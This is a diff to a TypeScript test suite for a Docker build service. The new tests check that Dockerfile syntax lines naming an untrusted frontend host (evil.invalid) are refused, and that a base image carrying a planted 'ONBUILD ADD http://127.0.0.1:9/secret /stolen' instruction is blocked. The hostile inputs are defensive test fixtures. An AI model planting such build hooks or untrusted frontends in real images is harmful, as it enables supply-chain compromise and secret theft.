@@ -58,6 +58,40 @@ describe('two projects share', () => {
   })
 })
 
+describe('the engine itself', () => {
+  test.for([
+    'evil.invalid/frontend \rx',
+    'evil.invalid/frontend\u2028x',
+    'docker/dockerfile:1.3',
+    'docker/dockerfile:1-labs',
+  ])('asks for no frontend because of the line %j', async (named) => {
+    const { result } = await bench.run(
+      bench.request(bench.project(), `# syntax=${named}\n${base}\nRUN ${fresh()} true\n`),
+    )
+    const words = result.ok ? '' : result.failure.message
+    // One that is named plainly is refused before anything is asked; the others are comments.
+    expect([result.ok, words]).toEqual(/evil/.test(named) && !/[\r\u2028]/.test(named) ? [false, words] : [true, ''])
+    expect(JSON.stringify(result)).not.toMatch(/resolve|manifests/)
+  })
+
+  test('fetches no address that the Dockerfile does not show, such as one that a base image adds', async () => {
+    const name = `onbuild-${Math.random().toString(36).slice(2)}`
+    const { Id } = await bench.ask<{ Id: string }>('/containers/create', 'POST', { Image: 'busybox:1' })
+    const changes = encodeURIComponent('ONBUILD ADD http://127.0.0.1:9/secret /stolen')
+    await bench.ask(`/commit?container=${Id}&repo=${name}&tag=1&changes=${changes}`, 'POST')
+    try {
+      const { result } = await bench.run(bench.request(bench.project(), `FROM ${name}:1\nRUN true\n`))
+      expect(result).toMatchObject({
+        ok: false,
+        failure: { message: 'http://127.0.0.1:9/secret cannot be used in a build on this server.' },
+      })
+    } finally {
+      await bench.ask(`/containers/${Id}?force=1`, 'DELETE')
+      await bench.ask(`/images/${name}:1`, 'DELETE')
+    }
+  })
+})
+
 describe('a secret', () => {
   test('is in no argument list, line, step, history or layer', async () => {
     const secret = `s3cret-${Math.random()}`
@@ -87,7 +121,15 @@ describe('a secret', () => {
     const entries = processes('docker-buildx')[0]?.environ.split('\0').filter(Boolean) ?? []
     const names = entries.map((entry) => entry.split('=')[0]).sort()
     const secret = 'SLIPWAY_SECRET_0'
-    expect(names).toEqual(['BUILDX_GIT_INFO', 'DOCKER_CONFIG', 'DOCKER_HOST', 'PATH', 'SLIPWAY_BUILD', secret])
+    expect(names).toEqual([
+      'BUILDX_GIT_INFO',
+      'DOCKER_CONFIG',
+      'DOCKER_HOST',
+      'EXPERIMENTAL_BUILDKIT_SOURCE_POLICY',
+      'PATH',
+      'SLIPWAY_BUILD',
+      secret,
+    ])
     expect(entries).toEqual(expect.arrayContaining(['PATH=/nonexistent', 'BUILDX_GIT_INFO=false', `${secret}=b`]))
     expect((await building).result.ok).toBe(true)
   })
